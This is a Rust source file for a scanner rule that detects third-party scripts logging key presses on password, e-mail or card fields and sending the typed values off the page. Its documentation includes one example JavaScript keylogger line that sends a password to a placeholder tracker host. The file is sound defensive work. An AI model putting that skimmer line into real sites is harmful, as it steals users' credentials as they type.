//! # keystroke-capture
//!
//! A third-party script listens to key presses or input on sensitive form
//! fields, and what was typed leaves the page.
//!
//! ## What it detects
//!
//! Scripts served from a host that is not the site itself that
//!
//! - register a key or input listener (`KEY_EVENTS`: `keydown`, `keyup`,
//!   `keypress`, `input`, `beforeinput`, `paste`) on a sensitive field (a
//!   password, e-mail or phone input, or a field whose name, id or
//!   autocomplete names a credential or contact) or on the whole
//!   `document`/`window`, as the capture's instrumentation recorded
//!   (`EventTarget.addEventListener` and the `onkeydown`, `onkeyup`,
//!   `onkeypress`, `oninput`, `onbeforeinput` and `onpaste` handler
//!   properties of fields, the document and the window), or,
//!   weaker, whose code both registers a listener for one of these events
//!   and reads field values (static analysis, `KeyListener` uses of those
//!   events and `InputValue`), and
//! - while the typed data leaves the page: a canary (any encoding, see
//!   `credential-exfiltration`) or a prefix of one at least
//!   [`MIN_PREFIX_CHARS`] (8) characters and half the value long (a value
//!   sent key by key) found in a request to a third party.
//!
//! Only these events count. A script that reads a field when it loses
//! focus or changes (`blur`, `focusout`, `change`) and sends the value sees
//! it once, after typing: that leak is reported by `pii-before-submit`
//! (or `credential-exfiltration`), not here.
//!
//! ## Why it matters
//!
//! A script that sees every key press on a login form sees the password as
//! it is typed, whether or not the form is ever submitted: it is how
//! session-replay services and card skimmers (Magecart) take what people
//! type.
//!
//! ## How it decides
//!
//! - Listener seen running and the data sent to the script's own host or by
//!   the script itself: **high** severity, **high** confidence.
//! - Listener seen running, the data sent elsewhere: **high**, **medium**
//!   confidence (another script may have sent it).
//! - Listener only read from the code: **medium** severity, **medium**
//!   confidence when the data went to the script's host, else **low**.
//! - A listener without any typed data leaving is not reported: forms
//!   validate and auto-complete on key presses for honest reasons.
//! - Evidence: up to [`MAX_EVIDENCE`] (5) listeners seen running, as many
//!   places in the code, and as many requests that carried the data.
//!
//! ## Known false positives
//!
//! A third-party form or login widget the site embeds on purpose listens to
//! its own fields and sends them to its own host: pass its host with
//! `--first-party` when it is the site's own service.
//!
//! ## Example
//!
//! ```js
//! document.querySelector("input[type=password]").addEventListener("keyup", (e) =>
//!   new Image().src = "https://c.tracker.example/k?v=" + encodeURIComponent(e.target.value));
//! ```

use std::collections::BTreeMap;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use outflow_model::{
    Channel, Confidence, Evidence, Finding, Observation, Request, Severity, Technique,
};

use crate::canary::leaks::find_leaks;
use crate::evidence::code_evidence;
use crate::facts::{Facts, host_of};
use crate::rule::Check;

/// Event types that fire on each key press or edit.
pub const KEY_EVENTS: [&str; 6] = [
    "keydown",
    "keyup",
    "keypress",
    "input",
    "beforeinput",
    "paste",
];
/// The shortest prefix of a canary that counts as typed data leaving.
pub const MIN_PREFIX_CHARS: usize = 8;
/// Words in a field's description that make it sensitive.
const SENSITIVE_WORDS: [&str; 14] = [
    "type=password",
    "type=email",
    "type=tel",
    "pass",
    "pwd",
    "user",
    "login",
    "mail",
    "phone",
    "mobile",
    "card",
    "cvv",
    "cvc",
    "otp",
];
/// How many pieces of evidence of each sort a finding lists.
pub const MAX_EVIDENCE: usize = 5;

crate::rules::declare_rule! {
    /// The rule; see the module documentation.
    pub struct KeystrokeCapture;
    slug: "keystroke-capture",
    source: "keystroke_capture.rs",
    thresholds: [MIN_PREFIX_CHARS, MAX_EVIDENCE],
}

/// What one script did.
#[derive(Default)]
struct Listener {
    dynamic: Vec<Evidence>,
    static_code: Vec<Evidence>,
    name: String,
}

impl Check for KeystrokeCapture {
    fn check(&self, facts: &Facts<'_>) -> Vec<Finding> {
        let Some(capture) = facts.capture else {
            return Vec::new();
        };
        let listeners = listeners(facts);
        if listeners.is_empty() || capture.canaries.is_empty() {
            return Vec::new();
        }
        // Typed data leaving: (destination host, initiating script, evidence).
        let mut sent: Vec<(String, Option<String>, Evidence)> = find_leaks(facts)
            .into_iter()
            .filter(|l| !l.write)
            .map(|l| (l.host, l.script, l.evidence))
            .collect();
        sent.extend(prefix_leaks(facts));
        if sent.is_empty() {
            return Vec::new();
        }
        let mut out = Vec::new();
        for (host, listener) in listeners {
            let own: Vec<&Evidence> = sent
                .iter()
                .filter(|(h, script, _)| {
                    *h == host || script.as_deref().is_some_and(|s| s == listener.name)
                })
                .map(|(_, _, e)| e)
                .collect();
            let dynamic = !listener.dynamic.is_empty();
            let (severity, confidence) = match (dynamic, !own.is_empty()) {
                (true, true) => (Severity::High, Confidence::High),
                (true, false) => (Severity::High, Confidence::Medium),
                (false, true) => (Severity::Medium, Confidence::Medium),
                (false, false) => (Severity::Medium, Confidence::Low),
            };
            let shown: Vec<&Evidence> = if own.is_empty() {
                sent.iter().map(|(_, _, e)| e).collect()
            } else {
                own.clone()
            };
            let mut evidence: Vec<Evidence> = listener
                .dynamic
                .iter()
                .take(MAX_EVIDENCE)
                .cloned()
                .collect();
            evidence.extend(listener.static_code.iter().take(MAX_EVIDENCE).cloned());
            evidence.extend(shown.into_iter().take(MAX_EVIDENCE).cloned());
            let mut destinations: Vec<String> = sent.iter().map(|(h, _, _)| h.clone()).collect();
            destinations.sort();
            destinations.dedup();
            out.push(Finding {
                rule: Self::SLUG.to_string(),
                severity,
                confidence,
                title: format!(
                    "Script from {host} {} key presses on sensitive fields while typed data leaves the page",
                    if dynamic { "listens to" } else { "can listen to" }
                ),
                explanation: format!(
                    "{} registers key or input listeners on sensitive form fields ({}), and \
                     what outflow typed was found in requests to {} ({}). A third party that \
                     sees each key press sees passwords and addresses as they are typed, \
                     submitted or not.",
                    listener.name,
                    if dynamic {
                        "seen while the page ran"
                    } else {
                        "read from its code"
                    },
                    destinations.join(", "),
                    if own.is_empty() {
                        "not traced to this script"
                    } else {
                        "to this script's host or sent by it"
                    }
                ),
                script: Some(listener.name),
                destinations,
                evidence,
            });
        }
        out
    }
}

fn is_sensitive_target(description: &str) -> bool {
    let lower = description.to_ascii_lowercase();
    lower == "document" || lower == "window" || SENSITIVE_WORDS.iter().any(|w| lower.contains(w))
}

/// Whether an `on…` handler property (`HTMLElement.onkeyup`,
/// `Document.oninput`) is one for a key event.
fn is_key_handler(api: &str) -> bool {
    api.rsplit_once('.')
        .and_then(|(owner, member)| {
            matches!(owner, "HTMLElement" | "Document" | "Window").then_some(member)
        })
        .and_then(|member| member.strip_prefix("on"))
        .is_some_and(|event| KEY_EVENTS.contains(&event))
}

/// Whether an API name from the code analysis registers a key listener:
/// `EventTarget.addEventListener(keyup)` or a key handler property.
fn is_key_api(api: &str) -> bool {
    match api
        .strip_prefix("EventTarget.addEventListener(")
        .and_then(|rest| rest.strip_suffix(')'))
    {
        Some(event) => KEY_EVENTS.contains(&event),
        None => is_key_handler(api),
    }
}

/// Third-party scripts with key listeners, by host.
fn listeners(facts: &Facts<'_>) -> BTreeMap<String, Listener> {
    let mut by_host: BTreeMap<String, Listener> = BTreeMap::new();
    let calls = facts
        .capture
        .and_then(|c| c.api_calls.as_deref())
        .unwrap_or(&[]);
    for call in calls {
        let Some(host) = host_of(&call.script_url).filter(|h| facts.is_third_party(h)) else {
            continue;
        };
        let matching: Vec<String> = if call.api == "EventTarget.addEventListener" {
            call.arguments
                .iter()
                .filter(|a| {
                    a.split_once(" on ").is_some_and(|(event, target)| {
                        KEY_EVENTS.contains(&event.trim()) && is_sensitive_target(target)
                    })
                })
                .cloned()
                .collect()
        } else if is_key_handler(&call.api) {
            call.arguments
                .iter()
                .filter(|a| is_sensitive_target(a))
                .cloned()
                .collect()
        } else {
            continue;
        };
        if matching.is_empty() {
            continue;
        }
        let entry = by_host.entry(host).or_default();
        if entry.name.is_empty() {
            entry.name.clone_from(&call.script_url);
        }
        entry.dynamic.push(Evidence::Api {
            script: call.script_url.clone(),
            api: call.api.clone(),
            count: call.count,
            observed: Observation::Dynamic,
            arguments: matching,
        });
    }
    for script in facts.scripts {
        let Some(host) = script.host().filter(|h| facts.is_third_party(h)) else {
            continue;
        };
        let Some(analysis) = &script.analysis else {
            continue;
        };
        // The code analysis files blur, change and focusout listeners under
        // the same technique: only key and input events count here.
        let listener = analysis
            .api_uses
            .iter()
            .find(|u| u.technique == Technique::KeyListener && is_key_api(&u.api));
        let reads = analysis
            .api_uses
            .iter()
            .find(|u| u.technique == Technique::InputValue);
        let (Some(listener), Some(reads)) = (listener, reads) else {
            continue;
        };
        let entry = by_host.entry(host).or_default();
        if entry.name.is_empty() {
            entry.name.clone_from(&script.name);
        }
        for (used, what) in [(listener, "key listener"), (reads, "reads a field's value")] {
            if let Some(span) = used.locations.first() {
                entry.static_code.push(code_evidence(
                    script,
                    *span,
                    format!("{what}: {} ({} in the code)", used.api, used.count),
                ));
            }
        }
    }
    by_host
}

/// Requests to third parties carrying a prefix of a canary (a value sent
/// key by key, before typing ended), plainly or URL-encoded.
fn prefix_leaks(facts: &Facts<'_>) -> Vec<(String, Option<String>, Evidence)> {
    let Some(capture) = facts.capture else {
        return Vec::new();
    };
    let mut prefixes: Vec<String> = Vec::new();
    for canary in &capture.canaries {
        let chars: Vec<char> = canary.value.chars().collect();
        let shortest = MIN_PREFIX_CHARS.max(chars.len().div_ceil(2));
        for len in shortest..chars.len().saturating_sub(2) {
            prefixes.push(chars[..len].iter().collect());
        }
    }
    if prefixes.is_empty() {
        return Vec::new();
    }
    let Ok(automaton) = AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::LeftmostLongest)
        .build(&prefixes)
    else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for request in facts.requests() {
        let Some(host) = host_of(&request.url).filter(|h| facts.is_third_party(h)) else {
            continue;
        };
        if let Some((channel, matched)) = find_prefix(&automaton, request) {
            out.push((
                host,
                facts.request_script(request),
                Evidence::Request {
                    request_id: request.id.clone(),
                    url: request.url.clone(),
                    method: request.method.clone(),
                    time_ms: request.time_ms,
                    channel,
                    matched,
                    encodings: vec!["prefix of the typed value".to_string()],
                    what: "the first characters of a canary".to_string(),
                },
            ));
        }
    }
    out
}

fn find_prefix(automaton: &AhoCorasick, request: &Request) -> Option<(Channel, String)> {
    let mut places: Vec<(Channel, &str)> = vec![(Channel::Url, request.url.as_str())];
    if let Some(body) = &request.body
        && !body.base64
    {
        places.push((Channel::Body, body.text.as_str()));
    }
    for (i, frame) in request.websocket_frames.iter().enumerate() {
        if frame.sent && frame.opcode == 1 {
            places.push((
                Channel::WebsocketFrame {
                    index: u32::try_from(i).unwrap_or(u32::MAX),
                },
                frame.payload.as_str(),
            ));
        }
    }
    for (channel, text) in places {
        let decoded = crate::canary::percent_decoded(text);
        for candidate in [text, decoded.as_str()] {
            if let Some(m) = automaton.find(candidate) {
                return Some((channel, candidate[m.start()..m.end()].to_string()));
            }
        }
    }
    None
}
